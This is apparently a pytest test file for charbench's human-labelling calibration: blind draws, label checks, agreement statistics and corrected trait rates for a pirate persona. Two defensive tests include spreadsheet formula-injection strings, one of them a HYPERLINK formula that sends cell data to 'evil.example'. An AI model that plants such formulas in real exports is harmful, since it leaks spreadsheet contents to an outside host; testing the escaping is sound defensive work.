"""People label blind, and their labels are held against the scorers."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from charbench.domain.keys import digest
from support.command import Charbench
from support.labels import by_text, drawn, label, record, write
from support.plugins import Site
from support.store import change, query, store_of


@pytest.fixture
def lab(tmp_path: Path, charbench: Charbench) -> Path:
    record(tmp_path, ["Ahoy, matey!" if number % 4 < 2 else "Hello, how can I help?" for number in range(40)], 2)
    charbench.ok("run", "--lab", tmp_path)
    return tmp_path


@pytest.mark.slow
def test_a_draw_is_blind_balanced_and_the_same_for_one_seed(charbench: Charbench, lab, tmp_path):
    for name in ("one.csv", "two.csv"):
        charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "16", "-O", tmp_path / name)
    rows = drawn(tmp_path / "one.csv")
    assert rows == drawn(tmp_path / "two.csv")
    assert len(rows) == 16
    assert sum("matey" in row["text"] for row in rows) == 8
    assert "pirate_sft" not in (tmp_path / "one.csv").read_text()


@pytest.mark.slow
def test_labels_give_kappa_a_confusion_matrix_and_a_corrected_rate(charbench: Charbench, lab, tmp_path):
    path = tmp_path / "labels.csv"
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "16", "-O", path)
    label(path, lambda row: "3" if "matey" in row["text"] else "1")
    charbench.ok("calibrate", "read", path, "--lab", lab, "--labeller", "ann")
    label(path, lambda row: "2" if "matey" in row["text"] else "1")
    charbench.ok("calibrate", "read", path, "--lab", lab, "--labeller", "ben")
    (found,) = charbench.ok("calibrate", "report", "--lab", lab, "--json", "--force").json
    assert (found["labelled"], found["labellers"]) == (16, 2)
    assert 0 < found["krippendorff_alpha"] < 0.67
    (keyword,) = [one for one in found["agreements"] if one["other"] == "keyword.keywords"]
    assert keyword["table"] == [[8, 0], [0, 8]]
    assert keyword["kappa"] == 1
    (rate,) = found["trait_rates"]
    assert rate["machine"] == 0.5
    assert rate["low"] <= 0.5 <= rate["high"]


@pytest.mark.slow
def test_a_second_draw_and_labels_that_are_missing_move_no_corrected_rate(charbench: Charbench, tmp_path: Path):
    """One of ten texts has the trait; each stratum is drawn from evenly, and labelled by half."""
    (tmp_path / "recordings").mkdir()
    with (tmp_path / "recordings" / "a.jsonl").open("w") as file:
        for number in range(200):
            response = "Ahoy, matey!" if number % 10 == 0 else "Hello, how can I help?"
            row = {"sampler_path": "model:pirate_sft", "prompt": f"Question {number}?", "response": response}
            file.write(json.dumps(row) + "\n")
    charbench.ok("run", "--lab", tmp_path)
    for count, name in ((8, "one.csv"), (30, "two.csv")):
        path = tmp_path / name
        charbench.ok("calibrate", "draw", "--lab", tmp_path, "-p", "pirate", "-n", str(count), "-O", path)
        # People see the trait where it is, and leave some without a label: the share of these differs by stratum.
        label(path, lambda row: "3" if "matey" in row["text"] else "1" if "7" in row["prompt"] else "")
        charbench.ok("calibrate", "read", path, "--lab", tmp_path)
    (found,) = charbench.ok("calibrate", "report", "--lab", tmp_path, "--json").json
    (rate,) = found["trait_rates"]
    assert rate["machine"] == pytest.approx(0.1)
    assert rate["corrected"] == pytest.approx(0.1, abs=0.005)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("text", "fault"), [("item,label\nabc,2\n", "was not drawn"), ("a,b\n1,2\n", "no columns"), ("", "no columns")]
)
def test_a_file_that_is_none_of_ours_is_refused_with_its_fault(charbench: Charbench, lab, tmp_path, text, fault):
    (tmp_path / "bad.csv").write_text(text)
    ended = charbench("calibrate", "read", tmp_path / "bad.csv", "--lab", lab)
    assert ended.code == 2
    assert fault in ended.err


def test_a_label_off_the_scale_names_its_row_and_nothing_is_read(charbench: Charbench, lab, tmp_path):
    path = tmp_path / "labels.csv"
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "4", "-O", path)
    label(path, lambda row: "7")
    ended = charbench("calibrate", "read", path, "--lab", lab)
    assert ended.code == 2
    assert "row 2: label '7'; 0 to 3 is needed: 0 denies or refuses the character, 1 " in ended.err
    assert charbench.ok("calibrate", "report", "--lab", lab, "--json").json == []


def test_a_file_that_may_hold_labels_is_never_written_over(charbench: Charbench, lab, tmp_path):
    path = tmp_path / "labels.csv"
    path.write_text("mine")
    ended = charbench("calibrate", "draw", "--lab", lab, "-p", "pirate", "-O", path)
    assert ended.code == 2
    assert path.read_text() == "mine"


@pytest.mark.slow
def test_labels_of_another_store_are_refused_though_its_samples_have_the_same_numbers(
    charbench: Charbench, lab: Path, tmp_path: Path
):
    other = tmp_path / "other"
    (other / "recordings").mkdir(parents=True)
    lines = (lab / "recordings" / "a.jsonl").read_text().replace("Question", "Another question")
    (other / "recordings" / "a.jsonl").write_text(lines)
    charbench.ok("run", "--lab", other)
    for where in (lab, other):
        charbench.ok("calibrate", "draw", "--lab", where, "-p", "pirate", "-n", "12", "-O", where / "l.csv")
    label(lab / "l.csv", lambda _row: "3")
    ended = charbench("calibrate", "read", lab / "l.csv", "--lab", other)
    assert ended.code == 2
    assert ended.err.count("was not drawn from this store") == 12


@pytest.mark.slow
def test_labels_that_are_all_alike_leave_their_uncertainty(charbench: Charbench, lab: Path, tmp_path: Path):
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "12", "-O", tmp_path / "l.csv")
    label(tmp_path / "l.csv", lambda _row: "3")
    charbench.ok("calibrate", "read", tmp_path / "l.csv", "--lab", lab)
    (found,) = charbench.ok("calibrate", "report", "--lab", lab, "--json").json
    (rate,) = found["trait_rates"]
    assert rate["corrected"] == 1
    assert rate["low"] < 0.87  # of 40 texts, six of six of either class
    assert rate["low_precision"]


@pytest.mark.slow
def test_few_labels_and_labels_of_everything_correct_nothing_and_say_so(
    charbench: Charbench, lab: Path, tmp_path: Path
):
    for count, said in ((5, "a corrected rate takes 10"), (40, "there is nothing to correct")):
        path = tmp_path / f"{count}.csv"
        charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", str(count), "-O", path)
        label(path, lambda row: "3" if "matey" in row["text"] else "1")
        charbench.ok("calibrate", "read", path, "--lab", lab)
        assert said in charbench.ok("calibrate", "report", "--lab", lab).err


@pytest.mark.slow
def test_an_item_with_two_labels_and_a_labeller_without_a_name_are_refused(
    charbench: Charbench, lab: Path, tmp_path: Path
):
    path = tmp_path / "l.csv"
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "12", "-O", path)
    label(path, lambda _row: "3")
    lines = path.read_text().splitlines()
    path.write_text("\n".join([*lines, lines[1].replace(",3,", ",0,")]) + "\n")
    ended = charbench("calibrate", "read", path, "--lab", lab)
    assert ended.code == 2
    assert "row 14: item" in ended.err
    assert "has label 3 already" in ended.err
    assert "a name is needed" in charbench("calibrate", "read", path, "--lab", lab, "--labeller", " ").err


def test_a_models_text_is_no_formula_in_a_spreadsheet(charbench: Charbench, tmp_path: Path):
    (tmp_path / "recordings").mkdir()
    texts = ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "-ahoy", "@me", "Ahoy"]
    rows = [{"sampler_path": "model:pirate_sft", "prompt": f"={n}", "response": text} for n, text in enumerate(texts)]
    (tmp_path / "recordings" / "a.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    charbench.ok("run", "--lab", tmp_path)
    charbench.ok("calibrate", "draw", "--lab", tmp_path, "-p", "pirate", "-O", tmp_path / "l.csv")
    found = drawn(tmp_path / "l.csv")
    assert {row["text"] for row in found} == {*(f"'{text}" for text in texts[:4]), "Ahoy"}
    assert all(row["prompt"].startswith("'=") for row in found)


PANEL = """
from charbench import Metric, Score, Scorer, hookimpl


class Panel(Scorer):
    "Two judges, of whom the second errs in every fourth text; both grade too."
    name = "panel"
    metrics = (
        Metric("m", range=(0, 1), threshold=0.5, role="headline"),
        Metric("grade", range=(0, 3), threshold=3),
    )

    def score(self, sample, persona):
        for channel, text in sample.channels():
            right = float("matey" in text)
            wrong = 1 - right if sample.prompt.text.endswith(("0?", "4?", "8?")) else right
            yield Score("m", channel, right, votes=(("ja", right), ("jb", wrong)))
            yield Score("grade", channel, 3 * right, votes=(("ja", 3 * right), ("jb", 2 * wrong)))


@hookimpl
def charbench_scorers():
    return [Panel]
"""


@pytest.mark.slow
def test_each_judge_is_held_against_people_and_against_the_other(
    charbench: Charbench, site: Site, lab: Path, tmp_path: Path
):
    site.install("panel", PANEL)
    charbench.ok("score", "--lab", lab, "--scorer", "panel")
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "30", "-O", tmp_path / "l.csv")
    label(tmp_path / "l.csv", lambda row: "2" if "matey" in row["text"] else "1")
    charbench.ok("calibrate", "read", tmp_path / "l.csv", "--lab", lab)
    (found,) = charbench.ok("calibrate", "report", "--lab", lab, "--json").json
    pairs = {(one["one"], one["other"]): one for one in found["agreements"]}
    assert pairs["human", "panel[ja].m"]["kappa"] == 1
    assert pairs["human", "panel[jb].m"]["kappa"] < 1
    judges = pairs["panel[ja].m", "panel[jb].m"]
    assert (judges["samples"], judges["categories"]) == (40, 2)
    assert judges["table"][0][1] + judges["table"][1][0] == 12
    assert judges["krippendorff_alpha"] < 1
    assert pairs["panel[ja].grade", "panel[jb].grade"]["categories"] == 4
    # A grade of 2 is a trait to a person, and not to a metric whose threshold is 3.
    cuts = {rate["metric"]: rate["label_cut"] for rate in found["trait_rates"]}
    assert (cuts["panel.grade"], cuts["panel.m"]) == (3, 2)


@pytest.mark.slow
def test_labels_given_before_a_fresh_run_are_not_taken_for_those_of_new_answers(charbench: Charbench, tmp_path: Path):
    for texts in (["Ahoy, matey!", "Hello."], ["Hello.", "Ahoy, matey!"]):
        record(tmp_path, texts * 6, sampled=True)
        charbench.ok("run", "--fresh", "--lab", tmp_path)
        path = tmp_path / f"{texts[0][:5]}.csv"
        charbench.ok("calibrate", "draw", "--lab", tmp_path, "-p", "pirate", "-O", path)
        label(path, by_text)
    assert "was not drawn" in charbench("calibrate", "read", tmp_path / "Ahoy,.csv", "--lab", tmp_path).err
    charbench.ok("calibrate", "read", tmp_path / "Hello.csv", "--lab", tmp_path)
    (found,) = charbench.ok("calibrate", "report", "--lab", tmp_path, "--json").json
    assert [one["kappa"] for one in found["agreements"]] == [1]


@pytest.mark.slow
def test_labels_that_an_older_version_read_still_count_and_its_files_are_to_be_drawn_anew(
    charbench: Charbench, lab, tmp_path
):
    """It named what it drew by the sample's number or key, whatever its text."""
    path = tmp_path / "labels.csv"
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "12", "-O", path)
    label(path, by_text)
    charbench.ok("calibrate", "read", path, "--lab", lab, "--labeller", "ann")
    store, rows = store_of(lab), drawn(path)
    old = {}
    for item in query(store, "SELECT item, sample_id FROM label_items"):
        old[item.item] = digest("label", item.sample_id, "response", "pirate")[:16]
        for table in ("label_items", "labels"):
            change(store, f"UPDATE {table} SET item = :old WHERE item = :item", old=old[item.item], item=item.item)
    (found,) = charbench.ok("calibrate", "report", "--lab", lab, "--json").json
    assert found["labelled"] == 12
    for row in rows:
        row["item"] = old[row["item"]]
    write(path, rows)
    ended = charbench("calibrate", "read", path, "--lab", lab, "--labeller", "ben")
    assert ended.code == 2
    assert ended.err.count("\n") == 1
    assert "an older charbench drew 12 of its items, whatever their text; draw anew" in ended.err
    path.unlink()
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "12", "-O", path)
    label(path, lambda row: "0")
    charbench.ok("calibrate", "read", path, "--lab", lab, "--labeller", "ann")
    (found,) = charbench.ok("calibrate", "report", "--lab", lab, "--json").json
    assert found["agreements"][0]["table"] == [[6, 6], [0, 0]], "a text's newest label of one labeller counts"


def corrected(charbench: Charbench, folder: Path, count: int, choose) -> dict:
    """Label ``count`` texts, and return the keyword scorer's trait rate as corrected."""
    path = folder / f"{count}.csv"
    charbench.ok("calibrate", "draw", "--lab", folder, "-p", "pirate", "-n", str(count), "-O", path)
    label(path, choose)
    charbench.ok("calibrate", "read", path, "--lab", folder)
    (found,) = charbench.ok("calibrate", "report", "--lab", folder, "--json").json
    (rate,) = found["trait_rates"]
    return rate


@pytest.mark.slow
def test_people_who_agree_with_the_machine_on_a_few_texts_prove_little_of_the_rest(charbench: Charbench, tmp_path):
    record(tmp_path, ["Ahoy, matey!", "Hello."] * 200)
    charbench.ok("run", "--lab", tmp_path)
    rate = corrected(charbench, tmp_path, 12, by_text)
    assert rate["corrected"] == pytest.approx(0.5)
    assert rate["high"] - rate["low"] > 0.23
    rate = corrected(charbench, tmp_path, 100, by_text)
    assert rate["low_precision"] is False
    assert 0.02 < rate["high"] - rate["low"] < 0.15


@pytest.mark.slow
@pytest.mark.parametrize("text", ['=HYPERLINK("http://x")', "+1 matey", "-1 matey", "@matey", "\tmatey", "'=matey"])
def test_a_text_that_looks_like_a_formula_is_marked_in_the_file_and_shown_as_written_in_the_terminal(
    charbench: Charbench, tmp_path, monkeypatch, text
):
    (tmp_path / "recordings").mkdir()
    row = {"sampler_path": "model:pirate_sft", "prompt": "=1+1", "response": text}
    (tmp_path / "recordings" / "a.jsonl").write_text(json.dumps(row) + "\n")
    charbench.ok("run", "--lab", tmp_path)
    path = tmp_path / "labels.csv"
    charbench.ok("calibrate", "draw", "--lab", tmp_path, "-p", "pirate", "-O", path)
    (row,) = drawn(path)
    assert row["text"] == f"'{text}"
    assert row["prompt"] == "'=1+1"
    monkeypatch.setattr("sys.stdin", io.StringIO("3\n"))
    shown = charbench.ok("calibrate", "label", path).out
    assert f"\n{text}\n" in shown, "the terminal shows what the model wrote"
    assert "Prompt: =1+1" in shown
    assert charbench.ok("calibrate", "read", path, "--lab", tmp_path).err == ""


@pytest.mark.slow
@pytest.mark.parametrize("name", ["", "  ", "a" * 101])
def test_a_labeller_has_a_name_that_every_store_can_hold(charbench: Charbench, lab, tmp_path, name):
    path = tmp_path / "labels.csv"
    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "4", "-O", path)
    label(path, by_text)
    ended = charbench("calibrate", "read", path, "--lab", lab, "--labeller", name)
    assert ended.code == 2
    assert "a name is needed" in ended.err


def label_all(charbench: Charbench, folder: Path, count: int, people: dict, *, seed: int = 0) -> None:
    """Have each of these people label the same ``count`` texts."""
    for name, choose in people.items():
        path = folder / f"{name}-{count}-{seed}.csv"
        charbench.ok(
            "calibrate", "draw", "--lab", folder, "-p", "pirate", "-n", str(count), "--seed", str(seed), "-O", path
        )
        label(path, choose)
        charbench.ok("calibrate", "read", path, "--lab", folder, "--labeller", name)


@pytest.mark.slow
def test_two_people_who_differ_count_half_each_and_not_as_the_lower_one(charbench: Charbench, tmp_path: Path):
    """Each errs in every tenth text: once too low, once too high. Half of the texts have the trait."""
    record(tmp_path, [f"Ahoy, matey! {n % 10}" if n % 4 < 2 else f"Hello. {n % 10}" for n in range(160)], 2)
    charbench.ok("run", "--lab", tmp_path)

    def but(digit: str):
        return lambda row: "3" if ("matey" in row["text"]) != row["text"].endswith(digit) else "1"

    label_all(charbench, tmp_path, 80, {"ann": but("3"), "ben": but("6")})
    plain = charbench.ok("calibrate", "report", "--lab", tmp_path)
    assert "labellers agree too little" in plain.err
    assert "0.67 is needed" in plain.err
    forced = charbench.ok("calibrate", "report", "--lab", tmp_path, "--force", "--json").json[0]
    assert forced["krippendorff_alpha"] < 0.67
    assert forced["trait_rates"][0]["corrected"] == pytest.approx(0.5, abs=0.03)
    assert sum(map(sum, forced["agreements"][0]["table"])) == pytest.approx(80)
    assert "corrected by --force" in charbench.ok("calibrate", "report", "--lab", tmp_path, "--force").err


SHY = """
from charbench import Metric, Score, Scorer, hookimpl


class Shy(Scorer):
    "A judge that gives no score to texts with the word secret."
    name = "shy"
    metrics = (Metric("m", range=(0, 1), threshold=0.5, role="headline"),)

    def score(self, sample, persona):
        for channel, text in sample.channels():
            yield Score("m", channel, None if "secret" in text else float("matey" in text))


@hookimpl
def charbench_scorers():
    return [Shy]
"""


@pytest.fixture
def shy_lab(charbench: Charbench, site: Site, tmp_path: Path) -> Path:
    """Of 160 texts, 40% have the trait: the judge refuses 17 points of them, and no other text."""
    site.install("shy", SHY)
    texts = ["Ahoy, matey!"] * 23 + ["Ahoy, my secret!"] * 17 + ["Hello."] * 60
    record(tmp_path, [texts[n * 37 % 100] for n in range(400)], 4)
    charbench.ok("run", "--lab", tmp_path, "--scorer", "shy")
    return tmp_path


def by_trait(row: dict[str, str]) -> str:
    return "3" if "Ahoy" in row["text"] else "1"


@pytest.mark.slow
def test_labels_of_texts_that_the_judge_refused_are_used_and_the_unscored_are_bounded(
    charbench: Charbench, shy_lab: Path
):
    label_all(charbench, shy_lab, 60, {"ann": by_trait})
    (found,) = charbench.ok("calibrate", "report", "--lab", shy_lab, "--json").json
    (rate,) = found["trait_rates"]
    assert rate["machine"] == pytest.approx(23 / 83)
    assert (rate["unscored"], rate["texts"]) == (68, 400)
    assert rate["machine_if_unscored_no"] == pytest.approx(0.23)
    assert rate["machine_if_unscored_yes"] == pytest.approx(0.40)
    assert rate["corrected"] == pytest.approx(0.4, abs=0.001)
    assert rate["low"] < 0.4 < rate["high"]
    assert rate["sensitivity"] == pytest.approx(23 / 40)
    assert rate["specificity"] == 1
    for one in rate["checkpoints"]:
        assert one["machine_if_unscored_no"] < one["corrected"]
        assert one["low"] < 0.4 < one["high"]
    shown = charbench.ok("calibrate", "report", "--lab", shy_lab).out
    assert "28% (23 to 40 by the unscored)" in shown
    assert "By checkpoint, for other prompts: shy.m" in shown


@pytest.mark.slow
def test_where_no_refused_text_is_labelled_they_may_be_all_or_nothing_and_it_is_said(
    charbench: Charbench, shy_lab: Path
):
    label_all(charbench, shy_lab, 60, {"ann": lambda row: "" if "secret" in row["text"] else by_trait(row)})
    ended = charbench.ok("calibrate", "report", "--lab", shy_lab)
    assert "no label among the 68 of 400 texts that the scorer could not score" in ended.err
    (rate,) = charbench.ok("calibrate", "report", "--lab", shy_lab, "--json").json[0]["trait_rates"]
    assert rate["low"] <= 0.23 < 0.40 <= rate["high"]
    assert (rate["checkpoints"], rate["sensitivity"]) == ([], None)


@pytest.mark.slow
def test_labels_drawn_before_a_judge_came_correct_it_by_the_chances_they_were_drawn_by(
    charbench: Charbench, site: Site, tmp_path: Path
):
    """Keywords find a fifth of the texts with the trait: half of the labels, which stand for few texts."""
    texts = ["Ahoy, matey!"] * 8 + ["Ahoy!?"] * 32 + ["Hello."] * 160
    site.install("shy", SHY.replace('"matey" in text', '"?" in text or len(text) == 12'))
    record(tmp_path, [texts[n * 37 % 200].replace("Ahoy!", "Well now") for n in range(400)], 4)
    charbench.ok("run", "--lab", tmp_path)
    label_all(charbench, tmp_path, 60, {"ann": lambda row: "1" if "Hello" in row["text"] else "3"})
    charbench.ok("score", "--lab", tmp_path, "--scorer", "shy")
    (found,) = charbench.ok("calibrate", "report", "--lab", tmp_path, "--json").json
    for rate in found["trait_rates"]:
        assert rate["low"] <= 0.2 <= rate["high"], rate["metric"]
    late = next(rate for rate in found["trait_rates"] if rate["metric"] == "shy.m")
    assert late["corrected"] == pytest.approx(0.2)
    assert (late["machine"], late["sensitivity"], late["notes"]) == (pytest.approx(0.2), 1, [])


@pytest.mark.slow
def test_checkpoints_are_corrected_and_compared_with_one_of_them(charbench: Charbench, tmp_path: Path):
    record(tmp_path, ["Ahoy, matey!" if n // 3 % 10 < (1, 5, 9)[n % 3] else "Hello." for n in range(120)], 3)
    charbench.ok("run", "--lab", tmp_path)
    # People do not see the character in every tenth text that keywords find it in.
    label_all(charbench, tmp_path, 60, {"ann": by_text})
    words = ("calibrate", "report", "--lab", tmp_path, "--against", "pirate_sft_0")
    (rate,) = charbench.ok(*words, "--json").json[0]["trait_rates"]
    rates = {one["checkpoint"]: one["corrected"] for one in rate["checkpoints"]}
    assert rates == {f"pirate_sft_{n}": pytest.approx(share) for n, share in enumerate((0.1, 0.5, 0.9))}
    gaps = {one["checkpoint"]: one for one in rate["differences"]}
    assert gaps.keys() == {"pirate_sft_1", "pirate_sft_2"}
    assert gaps["pirate_sft_2"]["difference"] == pytest.approx(0.8)
    assert 0 < gaps["pirate_sft_2"]["low"] < 0.8
    assert "differences from pirate_sft_0" in charbench.ok(*words).out
    by_uri = charbench.ok("calibrate", "report", "--lab", tmp_path, "--against", "model:pirate_sft_0", "--json").json
    assert by_uri[0]["trait_rates"][0]["differences"] == rate["differences"]
    ended = charbench("calibrate", "report", "--lab", tmp_path, "--against", "nobody")
    assert ended.code == 2
    assert "no checkpoint 'nobody' among pirate_sft_0, pirate_sft_1, pirate_sft_2" in ended.err


@pytest.mark.slow
def test_a_draw_that_leaves_checkpoints_out_says_so_and_few_labels_are_marked(charbench: Charbench, tmp_path: Path):
    record(tmp_path, ["Ahoy, matey!" if n % 2 else "Hello." for n in range(150)], 30)
    charbench.ok("run", "--lab", tmp_path)
    path = tmp_path / "l.csv"
    ended = charbench.ok("calibrate", "draw", "--lab", tmp_path, "-p", "pirate", "-n", "9", "-O", path)
    assert "21 of 30 checkpoints have none of these texts, by chance" in ended.err
    for name in ("ann", "ben"):
        label(path, by_text)
        charbench.ok("calibrate", "read", path, "--lab", tmp_path, "--labeller", name)
    shown = charbench.ok("calibrate", "report", "--lab", tmp_path)
    assert "Krippendorff's alpha 1.00 (low precision)" in shown.out
    assert "│  1.00 (low precision) │ 1.00 (low precision) │".replace("  ", " ") in " ".join(shown.out.split())
    assert "has 9 labelled samples: a corrected rate takes 10" in shown.err


@pytest.mark.slow
def test_labels_without_stored_chances_still_correct_and_what_is_assumed_is_said(charbench: Charbench, tmp_path: Path):
    record(tmp_path, ["Ahoy, matey!" if n % 10 < 2 else "Hello." for n in range(200)], 2)
    charbench.ok("run", "--lab", tmp_path)
    label_all(charbench, tmp_path, 40, {"ann": by_text})
    change(store_of(tmp_path), "DELETE FROM label_chances")
    ended = charbench.ok("calibrate", "report", "--lab", tmp_path)
    assert "40 of 40 labelled texts were drawn by an older charbench" in ended.err
    (rate,) = charbench.ok("calibrate", "report", "--lab", tmp_path, "--json").json[0]["trait_rates"]
    assert rate["corrected"] == pytest.approx(0.2)
    # A draw of today beside them: both count.
    label_all(charbench, tmp_path, 30, {"ann": by_text}, seed=5)
    (rate,) = charbench.ok("calibrate", "report", "--lab", tmp_path, "--json").json[0]["trait_rates"]
    assert rate["labels"] > 40
    assert rate["corrected"] == pytest.approx(0.2)


@pytest.mark.slow
def test_texts_that_came_after_the_draw_are_told(charbench: Charbench, tmp_path: Path):
    record(tmp_path, ["Ahoy, matey!", "Hello."] * 40)
    charbench.ok("run", "--lab", tmp_path)
    label_all(charbench, tmp_path, 20, {"ann": by_text})
    record(tmp_path, ["Ahoy, matey!", "Hello."] * 50)
    charbench.ok("run", "--lab", tmp_path)
    ended = charbench.ok("calibrate", "report", "--lab", tmp_path)
    assert "20 of 100 texts came after the labels were drawn" in ended.err
